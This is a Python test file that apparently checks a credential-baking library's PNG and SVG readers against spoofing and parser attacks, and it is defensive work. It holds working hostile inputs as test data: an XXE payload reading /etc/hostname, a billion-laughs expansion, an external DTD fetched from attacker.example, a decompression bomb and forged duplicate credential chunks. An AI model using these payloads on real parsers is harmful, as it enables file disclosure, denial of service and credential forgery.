"""Pictures that say one thing to one program and another to the next. Each guard, switched off, lets its attack through."""

import zlib

import pytest

from vc.baking import BakingError, BakingFault, bake_png, unbake_png, unbake_svg
from vc.baking import png as png_module
from vc.baking.forms import Standard

GOOD, EVIL = b'{"name": "Welding I"}', b'{"name": "Doctor of Medicine"}'
OB3 = "https://purl.imsglobal.org/ob/v3p0"
XXE = (
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    f'<svg xmlns:o="{OB3}"><o:credential>&x;</o:credential></svg>'
)
LAUGHS = (
    "<!DOCTYPE svg ["
    '<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + f']><svg xmlns:o="{OB3}"><o:credential>&a9;</o:credential></svg>'
)
DEFAULTS = f'<!DOCTYPE svg [<!ATTLIST o:credential verify CDATA "e.v.il">]><svg xmlns:o="{OB3}"><o:credential/></svg>'
PARAMETERS = f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><svg xmlns:o="{OB3}"/>'


def chunk(kind, body=b""):
    return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")


def itxt(text, keyword=b"openbadgecredential", flag=0):
    return chunk(b"iTXt", keyword + b"\0" + bytes([flag]) + b"\0\0\0" + text)


def png(*chunks, after=b""):
    header = chunk(b"IHDR", b"\0\0\0\1\0\0\0\1\x08\0\0\0\0")
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + chunk(b"IEND") + after


def refused(picture, fault, reading=unbake_png):
    with pytest.raises(BakingError) as caught:
        reading(picture)
    assert caught.value.fault is fault


@pytest.mark.parametrize(
    "second",
    [
        itxt(EVIL),
        itxt(GOOD),
        itxt(EVIL, b"openbadges"),
        itxt(EVIL, b"clrcredential"),
        chunk(b"tEXt", b"openbadges\0https://attacker.example/1"),
    ],
)
def test_M7_a_picture_with_two_credentials_is_ambiguous(second):
    refused(png(itxt(GOOD), second), BakingFault.SEVERAL)
    refused(png(second, itxt(GOOD)), BakingFault.SEVERAL)


def test_M7_a_credential_after_the_end_is_refused():
    refused(png(itxt(GOOD), after=itxt(EVIL)), BakingFault.AFTER_THE_END)
    refused(png(after=itxt(EVIL)), BakingFault.AFTER_THE_END)
    refused(png(itxt(GOOD), after=b"<html>"), BakingFault.AFTER_THE_END)


def test_M7_a_wrong_checksum_is_damage_wherever_it_is():
    evil = bytearray(png(itxt(GOOD)))
    evil[evil.index(b"Welding")] ^= 1
    refused(bytes(evil), BakingFault.DAMAGED)


def test_M7_other_encodings_are_refused():
    refused(png(itxt('{"name": "é"}'.encode("latin-1"))), BakingFault.NOT_UTF8)
    refused(png(itxt('{"name": "é"}'.encode("utf-16"))), BakingFault.NOT_UTF8)


def test_M7_compressed_credentials_of_version_3_are_refused_and_older_ones_bounded():
    refused(png(itxt(zlib.compress(GOOD), flag=1)), BakingFault.COMPRESSED)
    bomb = zlib.compress(b" " * (64 << 20), 9)
    assert len(bomb) < 100_000
    refused(png(itxt(bomb, b"openbadges", flag=1)), BakingFault.TOO_LARGE)
    refused(png(chunk(b"zTXt", b"openbadges\0\0" + bomb)), BakingFault.TOO_LARGE)


def test_M7_without_the_guard_the_first_of_two_would_be_believed(monkeypatch):
    def first(picture):
        return next(c for c in png_module._chunks(picture) if png_module._keyword(c) in png_module.KEYWORDS)

    monkeypatch.setattr(png_module, "_only", first)
    assert unbake_png(png(itxt(EVIL), itxt(GOOD))).text == EVIL


@pytest.mark.parametrize("attack", [XXE, LAUGHS, DEFAULTS, PARAMETERS], ids=["xxe", "laughs", "defaults", "parameters"])
def test_M8_an_svg_that_defines_anything_is_not_opened(attack):
    refused(attack.encode(), BakingFault.FORBIDDEN_XML, unbake_svg)


def test_M8_without_the_guard_a_document_type_would_add_the_credential(monkeypatch):
    monkeypatch.setattr("vc.baking.svg._document_type", lambda *_: None)
    assert unbake_svg(DEFAULTS.encode()).text == b"e.v.il"


@pytest.mark.parametrize("attack", [XXE, LAUGHS, PARAMETERS], ids=["xxe", "laughs", "parameters"])
def test_M8_entities_have_a_second_guard(attack, monkeypatch):
    monkeypatch.setattr("vc.baking.svg._document_type", lambda *_: None)
    refused(attack.encode(), BakingFault.FORBIDDEN_XML, unbake_svg)


@pytest.mark.parametrize("size", [(60_000, 60_000), (2**31 - 1, 1)])
def test_M6_pixels_are_never_decoded_to_find_a_credential(size):
    header = chunk(b"IHDR", size[0].to_bytes(4, "big") + size[1].to_bytes(4, "big") + b"\x08\x06\0\0\0")
    picture = b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", b"x") + chunk(b"IEND")
    baked = bake_png(picture, GOOD, standard=Standard.OPEN_BADGES_3, replace=False)
    assert unbake_png(baked).text == GOOD
